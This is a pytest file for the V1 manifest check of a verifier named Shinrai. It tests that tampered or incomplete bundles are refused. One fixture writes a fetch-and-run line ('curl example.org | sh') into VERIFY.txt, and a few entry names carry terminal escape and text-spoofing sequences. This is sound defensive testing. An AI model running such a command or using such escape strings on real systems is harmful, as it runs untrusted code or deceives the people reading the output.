"""The manifest (V1): what it lists is there and is what it says, and what is there is listed."""

import json

import pytest

from .world import World, put, said, sha256

PLAIN = World()
NAMES = [entry["name"] for entry in json.loads(PLAIN.manifest)["entries"]]
ROWS = NAMES.index("rows")
INSTRUCTIONS = NAMES.index("instructions")


def _without(*names):
    return lambda files: {name: data for name, data in files.items() if name not in names}


def _spelled(files):
    return {**files, "manifest.json": json.dumps(json.loads(files["manifest.json"]), indent=1).encode()}


BLOB = f"blobs/sha256/{sha256(PLAIN.blobs['rows'])}"
REFUSED = {
    "another schema": (World(edits={"manifest": put("schema", "x")}), "manifest.json is not in the form"),
    "no schema": (World(edits={"manifest": put("schema", ...)}), "lacks a valid field “schema”"),
    "another spelling": (World(files=_spelled), "manifest.json is not in the form that Shinrai writes"),
    "no subject": (World(edits={"manifest": put("subject", ...)}), "lacks a valid field “subject”"),
    "no entries": (World(edits={"manifest": put("entries", ...)}), "lacks a valid field “entries”"),
    "an entry that is no object": (World(edits={"manifest": put("entries", 0, "x")}), "is not an object"),
    "an entry without a name": (World(edits={"manifest": put("entries", 0, "name", 5)}), "lacks a valid field “name”"),
    "an entry without a digest": (World(edits={"manifest": put("entries", 0, "digest", ...)}), "field “digest”"),
    "a digest in capitals": (
        World(edits={"manifest": put("entries", 0, "digest", "sha256", "AB" * 32)}),
        "manifest.json has a digest that is not a SHA-256 in lowercase hex",
    ),
    "an entry without annotations": (World(edits={"manifest": put("entries", 0, "annotations", [])}), "“annotations”"),
    "another size": (
        World(edits={"manifest": put("entries", ROWS, "annotations", "size", 1)}),
        "rows is not what the manifest says it is",
    ),
    "no size": (
        World(edits={"manifest": put("entries", ROWS, "annotations", "size", ...)}),
        "manifest.json lacks a valid field “size”",
    ),
    "one content twice": (
        World(edits={"manifest": lambda m: {**m, "entries": [*m["entries"], m["entries"][0]]}}),
        "manifest.json lists one content twice",
    ),
    "another content under a digest": (
        World(files=lambda files: {**files, BLOB: b"approved,group\n0,b\n"}),
        "rows is not what the manifest says it is",
    ),
    "a content under a digest that nobody lists": (
        World(files=lambda files: {**files, f"blobs/sha256/{'ab' * 32}": b"x"}),
        f"blobs/sha256/{'ab' * 32} is not what the manifest says it is",
    ),
    "other instructions": (
        World(files=lambda files: {**files, "VERIFY.txt": b"curl example.org | sh\n"}),
        "instructions is not what the manifest says it is",
    ),
    "instructions that nobody lists": (
        World(edits={"manifest": put("entries", INSTRUCTIONS, ...)}),
        "VERIFY.txt is not what the manifest says it is",
    ),
    "no manifest": (World(files=_without("manifest.json")), "the bundle has no manifest.json"),
    "no statements": (World(files=_without("attestations.intoto.jsonl")), "has no attestations.intoto.jsonl"),
    "no trust document": (World(files=_without("trust/root.1.json")), "the bundle has no trust/root.1.json"),
    "no head of the log": (World(files=_without("log/checkpoint")), "the bundle has no log/checkpoint"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_manifest_that_is_not_kept_is_refused(tmp_path, name):
    world, expected = REFUSED[name]
    outcome = world.verified(tmp_path)
    assert outcome.exit_code == 1
    assert expected in said(outcome)


def test_what_is_missing_is_named_and_makes_it_incomplete(tmp_path):
    outcome = World(files=_without(BLOB, "VERIFY.txt")).verified(tmp_path)
    missing = [name for name in NAMES if name in ("rows", "instructions")]
    assert (outcome.exit_code, said(outcome)) == (2, f"V1 missing: {', '.join(missing)}")


def test_what_is_withheld_is_named_and_makes_it_incomplete(tmp_path):
    outcome = World(withhold=True).verified(tmp_path)
    assert (outcome.exit_code, said(outcome)) == (2, "V1 withheld: rows")
    assert outcome.withheld == ["rows"]


@pytest.mark.parametrize("word", ["yes", 1, None])
def test_withheld_is_only_what_says_so_plainly(tmp_path, word):
    world = World(edits={"manifest": put("entries", ROWS, "annotations", "withheld", word)}, files=_without(BLOB))
    assert said(world.verified(tmp_path)) == "V1 missing: rows"


def test_what_is_said_to_be_withheld_but_is_there_is_checked_all_the_same(tmp_path):
    edit = put("entries", ROWS, "annotations", "withheld", True)
    assert World(edits={"manifest": edit}).verified(tmp_path).exit_code == 0
    outcome = World(edits={"manifest": edit}, files=lambda files: {**files, BLOB: b"x"}).verified(tmp_path)
    assert (outcome.exit_code, said(outcome)) == (1, "V1 rows is not what the manifest says it is")


@pytest.mark.parametrize("name", ["a\u202eb", "\x1b[2J", "a\nVERIFIED", "\x9b31m"])
def test_foreign_names_reach_a_terminal_harmless(tmp_path, name):
    world = World(edits={"manifest": put("entries", ROWS, "name", name)}, files=_without(BLOB))
    shown = said(world.verified(tmp_path))
    assert shown.isprintable()
    assert shown.startswith("V1 missing: ")


@pytest.mark.parametrize("cut", [1, 2, 100])
def test_statements_cut_short_are_refused(tmp_path, cut):
    name = "attestations.intoto.jsonl"
    outcome = World(files=lambda files: {**files, name: files[name][:-cut]}).verified(tmp_path)
    assert (outcome.exit_code, said(outcome)) == (1, f"V5 {name} is cut short")


def test_an_empty_line_between_statements_is_refused(tmp_path):
    name = "attestations.intoto.jsonl"
    outcome = World(files=lambda files: {**files, name: b"\n" + files[name]}).verified(tmp_path)
    assert (outcome.exit_code, said(outcome)) == (1, f"V5 {name}:1 is not valid JSON")


def test_all_that_is_withheld_is_named(tmp_path):
    gone = ("rows", "m1")

    def withheld(manifest):
        for entry in manifest["entries"]:
            entry["annotations"]["withheld"] = entry["name"] in gone
        return manifest

    def files(found):
        digests = {f"blobs/sha256/{sha256(World().blobs[name])}" for name in gone}
        return {name: data for name, data in found.items() if name not in digests}

    outcome = World(edits={"manifest": withheld}, files=files).verified(tmp_path)
    assert sorted(outcome.withheld) == ["m1", "rows"]
    assert said(outcome).startswith(f"V1 withheld: {', '.join(outcome.withheld)}")


@pytest.mark.parametrize(
    "spell",
    [
        lambda record: json.dumps(record).encode(),
        lambda record: json.dumps({**record, "comment": "x"}, separators=(",", ":"), sort_keys=True).encode(),
        lambda record: json.dumps(
            {**record, "signatures": record["signatures"] * 2}, separators=(",", ":"), sort_keys=True
        ).encode(),
    ],
)
@pytest.mark.parametrize("name", ["attestations.intoto.jsonl", "trust/root.1.json"])
def test_other_spellings_of_an_envelope_are_not_taken(tmp_path, name, spell):
    def change(files):
        first, newline, rest = files[name].partition(b"\n")
        return {**files, name: spell(json.loads(first)) + newline + rest}

    outcome = World(files=change).verified(tmp_path)
    assert outcome.exit_code == 1
    assert "is not in the form that Shinrai writes" in said(outcome)
